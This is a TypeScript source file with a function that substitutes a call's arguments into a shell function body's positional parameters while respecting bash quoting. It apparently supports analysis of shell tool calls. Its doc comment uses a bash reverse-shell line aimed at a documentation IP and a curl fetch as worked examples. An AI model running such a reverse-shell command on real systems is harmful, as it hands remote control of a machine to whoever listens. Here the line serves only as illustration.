import { shellQuote } from '../toolcall.js';

/** An argument that reads the same unquoted and inside double quotes. */
const PLAIN = /^[\w.\/:@%+=,~-]*$/;

/** Text as it must appear inside double quotes to stay itself. */
const inDoubleQuotes = (s: string) => s.replace(/[\\"$`]/g, (c) => `\\${c}`);

/**
 * A function body with its positional parameters replaced by the arguments of one call:
 * `bash -i >& /dev/tcp/$1/$2 0>&1` called with `198.51.100.7 4444`. `"$@"` becomes each argument
 * quoted, `$*` and `$@` the arguments joined, `$#` their count, `$1`…`$9` and `${1}`…`${9}` the
 * argument, written so that it stays one word where it stands: quoted when bare, escaped inside
 * double quotes, left alone inside single quotes (where bash does not expand it). A linear scan.
 * `zero` is `$0` where the caller names it: `sh -c 'curl "http://$0/x"' 203.0.113.9` sets it to the
 * word after the script; elsewhere (a function, `sh -s`) it is the shell's own name and stays.
 */
export function withPositional(body: string, args: readonly string[], zero?: string): string {
  const param = zero === undefined ? /^[1-9@*#]$/ : /^[0-9@*#]$/;
  const arg = (p: string) => (p === '0' ? zero! : (args[Number(p) - 1] ?? ''));
  let out = '';
  let quote: '' | "'" | '"' = '';
  for (let i = 0; i < body.length; i++) {
    const c = body[i]!;
    if (quote === "'") {
      if (c === "'") quote = '';
      out += c;
      continue;
    }
    if (c === '\\') {
      out += body.slice(i, i + 2);
      i++;
      continue;
    }
    if (!quote && body.startsWith('"$@"', i)) {
      out += args.map(shellQuote).join(' ');
      i += 3;
      continue;
    }
    // `"$1"` is one double-quoted word wherever it stands, inside `$( … )` too, where the quoting starts afresh
    const whole = c === '"' ? /^"\$(?:([0-9])|\{([0-9])\})"/.exec(body.slice(i, i + 6)) : null;
    if (whole && param.test(whole[1] ?? whole[2]!)) {
      out += `"${inDoubleQuotes(arg(whole[1] ?? whole[2]!))}"`;
      i += whole[0].length - 1;
      continue;
    }
    if (c === "'" && !quote) quote = "'";
    else if (c === '"') quote = quote ? '' : '"';
    if (c !== '$') {
      out += c;
      continue;
    }
    const next = body[i + 1] ?? '';
    const braced = next === '{' && /^\{[0-9@*#]\}/.test(body.slice(i + 1, i + 4)) ? body[i + 2]! : undefined;
    const p = braced ?? next;
    if (!param.test(p)) {
      out += c;
      continue;
    }
    i += braced ? 3 : 1;
    const value = p === '#' ? String(args.length) : p === '@' || p === '*' ? args.join(' ') : arg(p);
    out += quote ? inDoubleQuotes(value) : PLAIN.test(value) || p === '#' ? value : shellQuote(value);
  }
  return out;
}
